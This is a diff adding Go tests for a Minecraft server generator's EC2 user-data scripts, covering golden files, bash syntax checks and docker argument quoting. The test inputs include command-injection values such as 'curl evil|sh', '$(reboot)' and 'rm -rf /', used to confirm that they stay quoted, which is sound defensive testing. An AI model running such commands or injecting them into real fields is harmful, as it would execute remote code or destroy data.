@@ -0,0 +1,212 @@
+package services
+
+import (
+	"flag"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"regexp"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/diego4lbarracin/The_Minecraft_Server_Generator/models"
+)
+
+// go test ./services -run UserData -update rewrites the golden files with the current renderings.
+var updateGolden = flag.Bool("update", false, "rewrite the golden files of the tests")
+
+// newTestMinecraftService() => returns a MinecraftService backed by the in-memory fake cloud.
+func newTestMinecraftService(t *testing.T) *MinecraftService {
+	t.Helper()
+	t.Setenv("AWS_REGION", "us-east-1")
+	return NewMinecraftService(NewEC2ServiceWithClient(NewFakeEC2("us-east-1")), nil)
+}
+
+// testServerRequest() => returns a creation request with its defaults, as the handler would prepare it.
+func testServerRequest() models.MinecraftServerRequest {
+	req := models.MinecraftServerRequest{EULA: true, RCONPassword: "rcon-secret"}
+	req.SetDefaults()
+	return req
+}
+
+// assertGolden() => compares got with testdata/<name>, or rewrites it with -update.
+func assertGolden(t *testing.T, name, got string) {
+	t.Helper()
+	path := filepath.Join("testdata", name)
+	if *updateGolden {
+		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	want, err := os.ReadFile(path)
+	if err != nil {
+		t.Fatalf("missing golden file (run with -update): %v", err)
+	}
+	if got != string(want) {
+		t.Errorf("%s differs from the rendering, run go test ./services -run %s -update and review the diff", path, t.Name())
+	}
+}
+
+func TestUserDataGolden(t *testing.T) {
+	service := newTestMinecraftService(t)
+	// The same, with backups and lifecycle callbacks enabled: the template renders the agents and their settings
+	full := newTestMinecraftService(t)
+	storage := NewFakeS3()
+	NewBackupService(storage, storage, BackupConfig{Bucket: "minecraft-backups", Region: "us-east-1", Interval: time.Hour}, full)
+	NewCallbackService("https://backend.example.com", full, NewEventBroker())
+
+	hostile := testServerRequest()
+	hostile.MOTD = `x"; curl evil|sh; "`
+	hostile.LevelSeed = "-123 $(reboot)"
+	hostile.LevelName = "world'; rm -rf / #"
+	hostile.PluginURLs = []string{"https://example.com/a.jar", "https://example.com/b.jar?x=`id`"}
+	hostile.WorldURL = "https://bucket.s3.amazonaws.com/world.zip?X-Amz-Signature=abc&X-Amz-Date=1"
+
+	withVolume := testServerRequest()
+	withVolume.DataVolume = true
+	withVolume.RestoreURL = "https://bucket.s3.amazonaws.com/backups/restore.tar.gz?X-Amz-Signature=abc"
+
+	callbacks := testServerRequest()
+	callbacks.CallbackToken = "callback-token"
+
+	backups := testServerRequest()
+	backups.LevelName = "world'; rm -rf / #"
+	backups.CallbackToken = "callback-token"
+
+	restore := backups
+	restore.RestoreURL = "https://minecraft-backups.s3.amazonaws.com/backups/i-0123/20250121T120000Z-manual.tar.gz?X-Amz-Signature=abc"
+
+	uploadedWorld := backups
+	uploadedWorld.WorldID = "world-3f9c2a7d1b8e4c60"
+	uploadedWorld.WorldURL = "https://minecraft-backups.s3.amazonaws.com/worlds/world-3f9c2a7d1b8e4c60.zip?X-Amz-Signature=abc"
+
+	idlePolicy := func(req models.MinecraftServerRequest, policy models.IdlePolicy) models.MinecraftServerRequest {
+		req.IdlePolicy = policy
+		req.IdlePolicy.SetDefaults()
+		return req
+	}
+
+	cases := map[string]struct {
+		service *MinecraftService
+		req     models.MinecraftServerRequest
+	}{
+		"defaults":    {service, testServerRequest()},
+		"hostile":     {service, hostile},
+		"data_volume": {service, withVolume},
+		"callbacks":   {full, callbacks},
+		"backups":     {full, backups},
+		"restore":     {full, restore},
+		"world":       {full, uploadedWorld},
+		"never_idle":  {service, idlePolicy(testServerRequest(), models.IdlePolicy{NeverIdle: true})},
+		"terminate":   {service, idlePolicy(testServerRequest(), models.IdlePolicy{DelaySeconds: 600, Action: models.IdleActionTerminate})},
+		"hibernate":   {full, idlePolicy(backups, models.IdlePolicy{Action: models.IdleActionHibernate})},
+	}
+	for name, c := range cases {
+		t.Run(name, func(t *testing.T) {
+			script, err := c.service.generateUserDataScript(c.req)
+			if err != nil {
+				t.Fatal(err)
+			}
+			assertGolden(t, filepath.Join("user_data", name+".sh.golden"), script)
+			checkBashSyntax(t, script)
+		})
+	}
+}
+
+// TestUserDataDockerEnvIsQuoted runs the docker run line of the script with a stub docker, and checks that every
+// environment value reaches the container exactly as sent, whatever shell syntax it holds.
+func TestUserDataDockerEnvIsQuoted(t *testing.T) {
+	bash, err := exec.LookPath("bash")
+	if err != nil {
+		t.Skip("bash is not available")
+	}
+	service := newTestMinecraftService(t)
+	req := testServerRequest()
+	req.MOTD = `x"; curl evil|sh; "`
+	req.LevelSeed = "-123 $(reboot)"
+	req.LevelName = "world'; rm -rf / #"
+
+	script, err := service.generateUserDataScript(req)
+	if err != nil {
+		t.Fatal(err)
+	}
+	start := strings.Index(script, "docker run -d")
+	if start < 0 {
+		t.Fatal("docker run command not found in the user data")
+	}
+	end := strings.Index(script[start:], "itzg/minecraft-server")
+	if end < 0 {
+		t.Fatal("docker run command has no image")
+	}
+	command := script[start : start+end+len("itzg/minecraft-server")]
+
+	out, err := exec.Command(bash, "-c", "docker() { printf '%s\\n' \"$@\"; }\n"+command).CombinedOutput()
+	if err != nil {
+		t.Fatalf("docker run line failed: %v\n%s", err, out)
+	}
+	args := strings.Split(strings.TrimSuffix(string(out), "\n"), "\n")
+	for _, want := range []string{"MOTD=" + req.MOTD, "SEED=" + req.LevelSeed, "LEVEL=" + req.LevelName, "RCON_PASSWORD=rcon-secret"} {
+		found := false
+		for i, arg := range args {
+			if arg == want && i > 0 && args[i-1] == "-e" {
+				found = true
+			}
+		}
+		if !found {
+			t.Errorf("docker did not receive -e %q, got %q", want, args)
+		}
+	}
+}
+
+func TestValidateUserDataTemplate(t *testing.T) {
+	if err := ValidateUserDataTemplate(); err != nil {
+		t.Fatal(err)
+	}
+}
+
+func TestEncodeUserDataLimit(t *testing.T) {
+	// Random-looking content does not compress: well over the limit once gzipped
+	var script strings.Builder
+	for script.Len() < 3*maxUserDataSize {
+		secret, err := generateSecret(48)
+		if err != nil {
+			t.Fatal(err)
+		}
+		script.WriteString(secret + "\n")
+	}
+	if _, err := encodeUserData(script.String()); err == nil {
+		t.Fatal("expected user data over the EC2 limit to be refused")
+	}
+}
+
+// embeddedScriptPattern matches the scripts the user data writes with a quoted heredoc: the path, then the script.
+var embeddedScriptPattern = regexp.MustCompile(`(?ms)^cat > (/\S+\.sh) << 'EOF'\n(.*?)^EOF$`)
+
+// checkBashSyntax() => fails when bash cannot parse the script, or one of the scripts it writes (bash -n does not look
+// into quoted heredocs). Skipped without bash.
+func checkBashSyntax(t *testing.T, script string) {
+	t.Helper()
+	bash, err := exec.LookPath("bash")
+	if err != nil {
+		return
+	}
+	scripts := map[string]string{"user data": script}
+	for _, match := range embeddedScriptPattern.FindAllStringSubmatch(script, -1) {
+		scripts[match[1]] = match[2]
+	}
+	// At least the callback script and the idle monitor
+	if len(scripts) < 3 {
+		t.Errorf("found %d scripts written by the user data, want the embedded ones too", len(scripts)-1)
+	}
+	for name, content := range scripts {
+		cmd := exec.Command(bash, "-n")
+		cmd.Stdin = strings.NewReader(content)
+		if out, err := cmd.CombinedOutput(); err != nil {
+			t.Errorf("bash -n %s: %v\n%s", name, err, out)
+		}
+	}
+}